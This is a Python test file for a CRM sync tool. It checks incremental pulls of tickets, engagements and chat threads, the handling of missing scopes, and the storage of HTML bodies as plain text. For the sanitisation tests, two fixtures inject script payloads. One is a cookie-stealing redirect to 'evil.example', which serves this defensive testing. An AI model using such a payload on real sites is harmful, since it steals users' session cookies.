"""Tickets and engagements pulled from the sandbox over loopback: equal to its truth, bodies as text."""

from __future__ import annotations

import dataclasses
import json

from crm.sandbox.oauth.models import ALL_SCOPES
from crm.sync import run_sync
from tests.sync.synchelpers import (
    crm_requests,
    differences,
    interaction_differences,
    stored_body_keys_are_their_texts,
)

ANCHOR = {"anchor_date": "2026-01-15"}
PORTAL = {
    "seed": 7,
    "contacts": 40,
    "companies": 10,
    "deals": 15,
    "owners": 4,
    "tickets": 14,
    "engagements": 90,
    "threads": 8,
}
ENGAGEMENTS = ("notes", "calls", "emails", "meetings", "tasks")


def _only(truth: list[dict], **props: str) -> dict:
    return next(
        r for r in truth if not r["archived"] and all(r["properties"].get(k) == v for k, v in props.items())
    )


def test_full_and_incremental_pulls_leave_tickets_and_engagements_equal_to_hubspot(sandbox, settings, db):
    sandbox.configure(**ANCHOR)
    sandbox.reset(**PORTAL)
    run = run_sync(settings, kind="full")
    assert run["state"] == "succeeded"
    assert differences(db, sandbox) == []
    assert interaction_differences(db, sandbox) == []
    assert run["counts"]["records"]["tickets"] == 14
    assert sum(n for t, n in db.interactions.counts().items() if t in ENGAGEMENTS) == 90
    assert {p["id"] for p in db.queries.pipelines("tickets")}, "ticket pipelines are cached"

    # HubSpot changes: a note rewritten (with a script), a call and a ticket deleted,
    # a ticket moved to another stage.
    note = sandbox.truth("notes")[0]["id"]
    call = next(r["id"] for r in sandbox.truth("calls") if not r["archived"])
    tickets = [r for r in sandbox.truth("tickets") if not r["archived"]]
    sandbox.patch_object(
        "notes", note, {"hs_note_body": "<p>Called back &amp; fixed</p><script>alert(1)</script>"}
    )
    sandbox.archive_object("calls", call)
    sandbox.archive_object("tickets", tickets[0]["id"])
    stages = [s["id"] for s in db.queries.pipelines("tickets")[0]["stages"]]
    moved = next(
        t
        for t in tickets[1:]
        if t["properties"].get("hs_pipeline") == db.queries.pipelines("tickets")[0]["id"]
    )
    other = next(s for s in stages if s != moved["properties"]["hs_pipeline_stage"])
    sandbox.patch_object("tickets", moved["id"], {"hs_pipeline_stage": other})

    before = crm_requests(sandbox.stats())
    run = run_sync(settings)
    spent = crm_requests(sandbox.stats()) - before
    assert run["state"] == "succeeded"
    assert differences(db, sandbox) == []
    assert interaction_differences(db, sandbox) == []
    assert db.interactions.body("notes", note) == "Called back & fixed"
    assert db.interactions.get("calls", call)["archived"] == 1
    assert db.queries.get_record("tickets", tickets[0]["id"])["archived"] == 1
    assert db.queries.get_record("tickets", moved["id"])["hs_pipeline_stage"] == other
    # Only what changed was read: one note, one ticket (each with its associations).
    assert run["counts"]["records"].get("notes") == 1 and run["counts"]["records"].get("tickets") == 1
    assert run["counts"]["records"].get("emails", 0) == 0

    # Nothing changed since: the next incremental re-reads only the overlap window's two
    # changes (crm.sync.pull OVERLAP_MS) and costs no more requests.
    before = crm_requests(sandbox.stats())
    run = run_sync(settings)
    assert sum(run["counts"]["records"].values()) == 2
    assert crm_requests(sandbox.stats()) - before <= spent


def test_html_bodies_are_cached_as_plain_text_once(sandbox, settings, db):
    sandbox.reset(**PORTAL)
    hostile = _hostile_email(sandbox)
    run_sync(settings, kind="full")
    stored = db.interactions.body("emails", hostile["id"])
    assert stored == "Hi <b>\n\nsee you"
    # Bodies made from HubSpot's HTML (notes, calls, meetings, tasks) hold no markup; plain
    # text (an email's text part, a chat message, a call transcript) is kept as written.
    from_html = [
        body.split("Transcript\n")[0]
        for (body,) in db.conn.execute(
            "SELECT b.body FROM interaction_bodies b JOIN interactions i ON i.body_hash = b.hash "
            "WHERE i.object_type IN ('notes', 'calls', 'meetings', 'tasks')"
        ).fetchall()
    ]
    assert from_html
    assert not [b for b in from_html if "<script" in b.lower() or "</p>" in b or "<br" in b]
    assert stored_body_keys_are_their_texts(db)
    assert db.interactions.body_count() <= sum(db.interactions.counts().values())


def _hostile_email(sandbox) -> dict:
    """An email sent from a record: HTML only, with a style, a script and an escaped tag."""
    email = next(e for e in sandbox.truth("emails") if not e["archived"])
    html = (
        "<html><head><style>p{color:red}</style><title>x</title></head><body>"
        "<p>Hi &lt;b&gt;</p><script>document.location='https://evil.example/'+document.cookie</script>"
        "<div>see&nbsp;you</div></body></html>"
    )
    return sandbox.patch_object("emails", email["id"], {"hs_email_text": "", "hs_email_html": html})


def test_a_portal_without_the_tickets_scope_syncs_the_rest_and_says_what_is_missing(sandbox, settings, db):
    sandbox.reset(**PORTAL)
    token = sandbox.private_app_token([s for s in ALL_SCOPES if s != "tickets"])
    limited = dataclasses.replace(settings, access_token=token)
    run = run_sync(limited, kind="full")
    assert run["state"] == "succeeded"
    assert db.queries.counts()["tickets"] == 0
    assert db.queries.counts()["contacts"] == 40
    assert sum(n for t, n in db.interactions.counts().items() if t in ENGAGEMENTS) == 90
    missing = json.loads(db.meta.get("missing_scopes") or "{}")
    assert list(missing) == ["tickets"] and "tickets" in missing["tickets"]
    assert interaction_differences(db, sandbox) == [] or all(
        "-> tickets" in d for d in interaction_differences(db, sandbox)
    )

    # Granted later: the next sync pulls the tickets and forgets the warning.
    run = run_sync(settings)
    assert db.queries.counts()["tickets"] == 14
    assert db.meta.get("missing_scopes") is None


def test_emails_read_without_sales_email_read_are_flagged_hidden_not_empty(sandbox, settings, db):
    sandbox.reset(**PORTAL)
    token = sandbox.private_app_token([s for s in ALL_SCOPES if s != "sales-email-read"])
    run_sync(dataclasses.replace(settings, access_token=token), kind="full")
    hidden = db.conn.execute(
        "SELECT count(*), sum(body_hidden) FROM interactions WHERE object_type = 'emails'"
    ).fetchone()
    assert hidden[0] > 0 and hidden[0] == hidden[1]
    assert (
        db.conn.execute(
            "SELECT count(*) FROM interactions WHERE object_type = 'notes' AND body_hidden = 1"
        ).fetchone()[0]
        == 0
    )


def test_inbox_threads_are_cached_with_their_messages_as_text_and_new_ones_arrive_incrementally(
    sandbox, settings, db
):
    sandbox.configure(**ANCHOR)
    sandbox.reset(**PORTAL)
    run_sync(settings, kind="full")
    threads = [t for t in sandbox.threads() if not t["archived"]]
    assert db.interactions.counts()["threads"] == len(threads)
    for thread in threads:
        body = db.interactions.body("threads", thread["id"]) or ""
        for message in thread["messages"]:
            if message.get("text") and not message.get("archived"):
                assert message["text"].split("\n")[0].strip()[:40] in body
        if thread.get("associatedContactId"):
            rows = db.interactions.timeline("contacts", thread["associatedContactId"], types=["threads"]).rows
            assert thread["id"] in [r["id"] for r in rows]

    contact = sorted((r["id"] for r in sandbox.truth("contacts") if not r["archived"]), key=int)[1]
    started = sandbox.start_thread(contact, "Hi, my <b>invoice</b> is wrong")
    run = run_sync(settings)
    assert run["counts"]["records"]["threads"] == 1
    [row] = db.interactions.timeline("contacts", contact, types=["threads"], search="invoice").rows
    assert row["id"] == str(started["id"])
    # A chat message is plain text: kept as the visitor wrote it (the page shows it as text).
    assert "Hi, my <b>invoice</b> is wrong" in (db.interactions.body("threads", row["id"]) or "")


def test_a_portal_without_the_inbox_scope_syncs_the_rest(sandbox, settings, db):
    sandbox.reset(**PORTAL)
    token = sandbox.private_app_token([s for s in ALL_SCOPES if s != "conversations.read"])
    run = run_sync(dataclasses.replace(settings, access_token=token), kind="full")
    assert run["state"] == "succeeded"
    assert db.interactions.counts()["threads"] == 0 and db.queries.counts()["tickets"] == 14
    assert list(json.loads(db.meta.get("missing_scopes") or "{}")) == ["threads"]


def test_a_transcribed_call_carries_its_transcript_as_text(sandbox, settings, db):
    sandbox.reset(**PORTAL)
    calls = [
        c
        for c in sandbox.truth("calls")
        if not c["archived"] and c["properties"].get("hs_call_transcription_id")
    ]
    assert calls, "the seed transcribes some calls"
    run_sync(settings, kind="full")
    for call in calls:
        body = db.interactions.body("calls", call["id"]) or ""
        assert "\nTranscript\n" in body or body.startswith("Transcript\n")
        assert body.split("Transcript\n", 1)[1].startswith("[0:")
    found = db.interactions.timeline(
        "contacts",
        next(str(c["id"]) for c in calls[0]["associations"]["contacts"]),
        types=["calls"],
        search=(db.interactions.body("calls", calls[0]["id"]) or "").split("\n")[-1].split(": ", 1)[1][:30],
    )
    assert calls[0]["id"] in [r["id"] for r in found.rows]


def test_without_the_transcripts_scope_calls_sync_and_the_page_is_told(sandbox, settings, db):
    sandbox.reset(**PORTAL)
    scopes = [s for s in ALL_SCOPES if s != "crm.extensions_calling_transcripts.read"]
    run = run_sync(dataclasses.replace(settings, access_token=sandbox.private_app_token(scopes)), kind="full")
    assert run["state"] == "succeeded"
    assert db.interactions.counts()["calls"] == sum(1 for c in sandbox.truth("calls") if not c["archived"])
    assert list(json.loads(db.meta.get("missing_scopes") or "{}")) == ["transcripts"]
